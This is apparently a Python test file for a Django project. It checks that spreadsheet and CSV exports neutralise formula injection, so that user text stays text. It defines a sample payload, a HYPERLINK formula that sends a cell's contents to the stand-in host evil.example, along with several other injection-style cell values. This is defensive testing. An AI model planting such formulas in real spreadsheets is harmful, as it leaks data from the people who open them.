"""User texts written to XLSX or CSV stay texts: no live formula in any download."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

from django.urls import reverse
from openpyxl import Workbook, load_workbook

from chiso.assessments.offline import COL_ELEMENT, COL_VALUE, HEADER_ROW, SHEET
from chiso.assessments.tests.workflow_world import *  # noqa: F403 (fixtures)
from chiso.assessments.tests.workflow_world import put_values
from chiso.conftest import client_for
from chiso.spreadsheets import csv_row, neutralise_workbook

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def test_csv_cells_starting_like_a_formula_get_a_quote_and_numbers_stay_numbers():
    row = csv_row([LEAK, "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", "Sở Nội vụ",
                   "-3,5", "+84", "12%", 7, Decimal("-2.5"), None])
    assert row[:6] == ["'" + LEAK, "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\r=1"]
    assert row[6:] == ["Sở Nội vụ", "-3,5", "+84", "12%", 7, Decimal("-2.5"), None]


def test_an_xlsx_formula_cell_is_written_as_its_text_and_numbers_keep_their_type():
    wb = Workbook()
    wb.active.append([LEAK, 54919, Decimal("93.61"), date(2026, 12, 2), "Có"])
    buffer = io.BytesIO()
    neutralise_workbook(wb).save(buffer)
    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    ws = load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = next(ws.iter_rows())
    assert cells[0].value == LEAK and cells[0].data_type == "s"
    assert cells[1].value == 54919 and cells[1].data_type == "n"
    assert cells[2].data_type == "n"


def test_a_narrative_formula_reaches_the_reviewers_xlsx_as_text(world, own_submission):
    put_values(own_submission, {"1.narrative": LEAK, "1.numerator": Decimal(54919)})
    response = client_for(world.reviewer).get(
        reverse("assessments:offline_download", args=[own_submission.pk]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("HYPERLINK" in xml and "<f>" in xml for xml in sheets)
    ws = load_workbook(io.BytesIO(response.content))[SHEET]
    rows = {ws.cell(r, COL_ELEMENT).value: r for r in range(HEADER_ROW + 1, ws.max_row + 1)}
    assert ws.cell(rows["1.narrative"], COL_VALUE).value == LEAK
    assert ws.cell(rows["1.numerator"], COL_VALUE).value == 54919  # still a number


def test_unit_names_in_the_planner_exports_are_not_formulas(world):
    from chiso.dashboard.tests.helpers import all_met, load_framework, put
    from chiso.units.models import Unit

    fw = load_framework("ag-cqdt-2021")
    root = Unit.objects.create(code="T", name="Tỉnh T", level="province", kind="Tỉnh")
    for code, name in (("A", "=1+2"), ("B", "+Sở B"), ("C", "@Sở C")):
        unit = Unit.objects.create(code=f"T-{code}", name=name, level="province", kind="Sở", parent=root)
        put(fw, unit, "2024", all_met(fw) | {"5.value": False})
    client = client_for(world.admin)
    text = client.get(reverse("dashboard:planner_export", args=["csv"])).content.decode("utf-8")
    records = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    names = {r[1]: r[2] for r in records if r[1:2] and r[1].startswith("T-")}
    assert names == {"T-A": "'=1+2", "T-B": "'+Sở B", "T-C": "'@Sở C"}
    content = client.get(reverse("dashboard:planner_export", args=["xlsx"])).content
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    ws = load_workbook(io.BytesIO(content)).active
    xlsx_names = {row[1]: row[2] for row in ws.iter_rows(min_row=3, values_only=True)}
    assert xlsx_names["T-A"] == "=1+2"  # the text as typed, shown rather than evaluated
